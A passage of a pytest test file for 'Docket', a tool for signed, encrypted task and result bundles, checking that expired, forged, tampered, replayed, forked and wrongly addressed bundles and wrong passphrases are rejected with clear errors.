    world: World, ws: Workspace, tmp_path: Path
) -> None:
    manifest, payload = manifest_and_payload(world, world.attack)
    now = utc_now()
    stale = replace(
        manifest,
        bundle_id="task-stale",
        created_at=iso(now - timedelta(days=10)),
        expires_at=iso(now - timedelta(minutes=1)),
    )
    data = seal(stale, payload, world.server, world.alice.card())
    error = assert_rejected(ws, world, put(tmp_path, data), ExpiredBundleError, "expired on")
    assert stale.expires_at is not None and stale.expires_at in error.message


@pytest.mark.parametrize(
    ("version", "phrase"),
    [(2, "format version 2"), (0, "format version 0"), ("1", "format version '1'"),
     (None, "format version None")],
)  # fmt: skip
def test_unsupported_format_version(
    world: World, ws: Workspace, tmp_path: Path, version: Any, phrase: str
) -> None:
    """Correctly signed by the pinned server key, but in a format this Docket does not read."""
    manifest, payload = manifest_and_payload(world, world.attack)
    fields = {**manifest.to_json(), "version": version}
    data = signed_manifest_bundle(world, fields, payload)
    assert_rejected(ws, world, put(tmp_path, data), UnsupportedVersionError, phrase)


# --- wrong payload types -------------------------------------------------------------------


def test_result_bundle_signed_by_the_server_for_alice(
    world: World, ws: Workspace, tmp_path: Path
) -> None:
    """A result bundle that passes decryption and the pinned signature still is not tasks."""
    manifest, payload = manifest_and_payload(world, world.attack)
    raw = sections_of(world, world.attack)
    answered = AnsweredBundle(
        bundle_id=manifest.bundle_id,
        project="attack",
        manifest_raw=raw[container.MANIFEST],
        signature=raw[container.SIGNATURE],
        sealed=payload["sealed.age"],
        server=world.alice.card(),
    )
    data, _ = build_result_bundle(
        reviewer=world.server, answered=answered, answers=[], audit=[], sequence=1, previous=None
    )
    assert_rejected(
        ws, world, put(tmp_path, data), ManifestError, "This is a result bundle, not a task"
    )


# --- result bundles at the server: replay, older, fork, gap, broken chain ------------------


@dataclass(frozen=True)
class Results:
    r1: Path
    r2a: Path
    r3a: Path
    r2b: Path
    """Sequence 2 from a copy of the workspace taken after r1: a fork of r2a."""
    r3b: Path
    """Sequence 3 following r2b: it continues the fork, not r2a."""


def _answer_one_more(ws: Workspace) -> None:
    for task in ws.tasks():
        if ws.answer(task.id) is None:
            ws.record(task.id, valid_answer(task))
            return
    raise AssertionError("no unanswered task left")


@pytest.fixture(scope="module")
def results(world: World, tmp_path_factory: pytest.TempPathFactory) -> Results:
    root = tmp_path_factory.mktemp("results")
    a, b = root / "ws-a", root / "ws-b"
    shutil.copytree(world.template, a)
    key = world.key_path["alice"]
    with Workspace.open(a, key) as ws:
        assert ws.export_results(root / "r1.docket").sequence == 1
    shutil.copytree(a, b)
    with Workspace.open(a, key) as ws:
        _answer_one_more(ws)
        assert ws.export_results(root / "r2a.docket").sequence == 2
        _answer_one_more(ws)
        assert ws.export_results(root / "r3a.docket").sequence == 3
    with Workspace.open(b, key) as ws:
        _answer_one_more(ws)
        assert ws.export_results(root / "r2b.docket").sequence == 2
        _answer_one_more(ws)
        assert ws.export_results(root / "r3b.docket").sequence == 3
    names = ("r1", "r2a", "r3a", "r2b", "r3b")
    return Results(*(root / f"{n}.docket" for n in names))


def _verify(world: World, *paths: Path) -> list[Verdict]:
    return verify_results(list(paths), world.server, [world.alice.card()])


def test_control_result_chain_verifies(world: World, results: Results) -> None:
    for chain in ((results.r1, results.r2a, results.r3a), (results.r1, results.r2b, results.r3b)):
        verdicts = _verify(world, *chain)
        assert [v.ok for v in verdicts] == [True, True, True], [v.reason for v in verdicts]
        assert [v.result.sequence for v in verdicts if v.result] == [1, 2, 3]


@pytest.mark.parametrize(
    ("order", "phrase"),
    [
        pytest.param(("r1", "r1"), "Replay: the same result bundle", id="replay"),
        pytest.param(("r1", "r2a", "r2a"), "Replay: the same result bundle", id="replay-later"),
        pytest.param(("r2a", "r1"), "Replay of an older result", id="lower-sequence"),
        pytest.param(("r1", "r2a", "r3a", "r2b"), "Replay of an older result", id="older-fork"),
        pytest.param(("r1", "r2a", "r2b"), "Fork: a second result with sequence 2", id="fork"),
        pytest.param(("r1", "r3a"), "Gap in the chain", id="gap"),
        pytest.param(("r1", "r2a", "r3b"), "Broken chain", id="broken-chain"),
    ],
)
def test_result_chain_attacks(
    world: World, results: Results, order: tuple[str, ...], phrase: str
) -> None:
    verdicts = _verify(world, *(getattr(results, n) for n in order))
    assert [v.ok for v in verdicts] == [True] * (len(order) - 1) + [False]
    assert phrase in verdicts[-1].reason
    assert verdicts[-1].result is None


def test_fork_bundles_really_share_a_sequence(world: World, results: Results) -> None:
    a, b = _verify(world, results.r2a), _verify(world, results.r2b)
    assert a[0].result and b[0].result
    assert a[0].result.sequence == b[0].result.sequence == 2
    assert a[0].result.hash != b[0].result.hash
    assert a[0].result.previous == b[0].result.previous


def test_task_bundle_given_to_verify(world: World, results: Results, tmp_path: Path) -> None:
    to_alice = put(tmp_path, world.attack, "task-for-alice.docket")
    to_server = put(tmp_path, world.for_server, "task-for-server.docket")
    verdicts = verify_results(
        [to_alice, to_server, results.r1], world.server, [world.alice.card(), world.server.card()]
    )
    assert [v.ok for v in verdicts] == [False, False, True]
    assert "not addressed to your key" in verdicts[0].reason
    assert "This is a task bundle, not a result" in verdicts[1].reason


def test_result_bundle_given_to_import(
    world: World, ws: Workspace, results: Results, tmp_path: Path
) -> None:
    """The result is encrypted to the server: alice cannot even open it."""
    assert_rejected(ws, world, results.r1, NotForYouError, "not addressed to your key")


# --- passphrases ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def carol(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A passphrase-protected reviewer key (scrypt: the slow part of this module)."""
    path, _ = keys.write_key_pair(
        keys.generate("carol"), tmp_path_factory.mktemp("carol"), passphrase=PASSPHRASE
    )
    return path


@pytest.mark.slow
def test_wrong_passphrase_via_workspace_open(ws_dir: Path, carol: Path, tmp_path: Path) -> None:
    fresh = tmp_path / "carol-ws"
    with pytest.raises(WrongPassphraseError, match="Wrong passphrase") as info:
        Workspace.open(fresh, carol, passphrase="correct horse battery stapler")
    assert type(info.value) is WrongPassphraseError and info.value.hint
    assert not fresh.exists(), "nothing is created before the key is unlocked"
    files = {p.name: p.read_bytes() for p in ws_dir.iterdir()}
    with pytest.raises(WrongPassphraseError):
        Workspace.open(ws_dir, carol, passphrase="wrong")
    assert {p.name: p.read_bytes() for p in ws_dir.iterdir()} == files


def test_wrong_passphrase_via_cli(
    world: World,
    carol: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DOCKET_TEST_PASSPHRASE", "not the passphrase")
    fresh = tmp_path / "carol-ws"
    code, out, err = run_cli(
        capsys,
        ["import", str(world.earlier), "--workspace", str(fresh), "--key", str(carol),
         "--server", str(world.card_path["server"]), "--passphrase-env", "DOCKET_TEST_PASSPHRASE"],
    )  # fmt: skip
    assert code == 1
    assert "Wrong passphrase" in err and WrongPassphraseError.hint in err
    assert "Traceback" not in out + err and "internal error" not in err
    assert not fresh.exists()


# --- the command line ----------------------------------------------------------------------


CLI_ATTACKS = {
    "for-bob": (lambda w: w.attack_bob, "not addressed to your key"),
    "truncated": (lambda w: w.big[: len(w.big) // 2], "damaged or truncated"),
    "signed-by-mallory": (lambda w: w.by_mallory, "does not verify with the key of 'server'"),
    "tampered-tasks": (
        lambda w: w.to_alice(
            flip(w.plaintext(w.attack), _offset(w, w.attack, "tasks.jsonl", b'"text":"', 9))
        ),
        "Section 'tasks.jsonl' does not match its hash",
    ),
    "not-a-bundle": (lambda w: b"just some text\n", "no age header"),
}


@pytest.mark.parametrize("case", list(CLI_ATTACKS))
def test_cli_import_rejects_attacks(
    world: World, ws_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    build, phrase = CLI_ATTACKS[case]
    path = put(tmp_path, build(world))
    with Workspace.open(ws_dir, world.key_path["alice"]) as ws:
        before = snapshot(ws)
    code, out, err = run_cli(
        capsys,
        ["import", str(path), "--workspace", str(ws_dir), "--key", str(world.key_path["alice"]),
         "--server", str(world.card_path["server"])],
    )  # fmt: skip
    assert code == 1
    assert err.startswith("docket: error: ") and phrase in err
    assert "Traceback" not in out + err and "internal error" not in err
    assert out == ""
    with Workspace.open(ws_dir, world.key_path["alice"]) as ws:
        assert_unchanged(ws, before)


def test_cli_import_rejects_a_result_bundle(
    world: World, ws_dir: Path, results: Results, capsys: pytest.CaptureFixture[str]
) -> None:
    with Workspace.open(ws_dir, world.key_path["alice"]) as ws:
        before = snapshot(ws)
    code, out, err = run_cli(
        capsys,
        ["import", str(results.r1), "--workspace", str(ws_dir),
         "--key", str(world.key_path["alice"]), "--server", str(world.card_path["server"])],
    )  # fmt: skip
    assert code == 1 and "not addressed to your key" in err
    assert "Traceback" not in out + err and "internal error" not in err
    with Workspace.open(ws_dir, world.key_path["alice"]) as ws:
        assert_unchanged(ws, before)


def test_cli_verify_rejects_a_task_bundle(
    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    keyring = tmp_path / "keyring"
    keyring.mkdir()
    shutil.copy(world.card_path["alice"], keyring / "alice.pub")
    task = put(tmp_path, world.attack, "task.docket")
    code, out, err = run_cli(
        capsys,
        ["verify", str(task), "--server-key", str(world.key_path["server"]),
         "--keyring", str(keyring)],
    )  # fmt: skip
    assert code == 1
    assert "FAIL" in out and "not addressed to your key" in out and "0 verified, 1 rejected" in out
    assert "Traceback" not in out + err and "internal error" not in err
